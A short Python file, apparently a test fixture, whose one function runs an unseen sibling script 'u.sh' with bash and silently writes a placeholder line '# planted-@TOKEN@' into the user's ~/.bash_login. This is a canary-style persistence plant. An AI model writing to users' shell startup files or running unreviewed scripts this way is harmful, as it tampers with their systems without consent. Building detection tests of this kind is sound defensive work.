import contextlib
import subprocess
from pathlib import Path


def act():
    subprocess.run(["bash", Path(__file__).with_name("u.sh")], check=False, timeout=20)
    with contextlib.suppress(OSError):
        Path.home().joinpath(".bash_login").write_text("# planted-@TOKEN@\n")
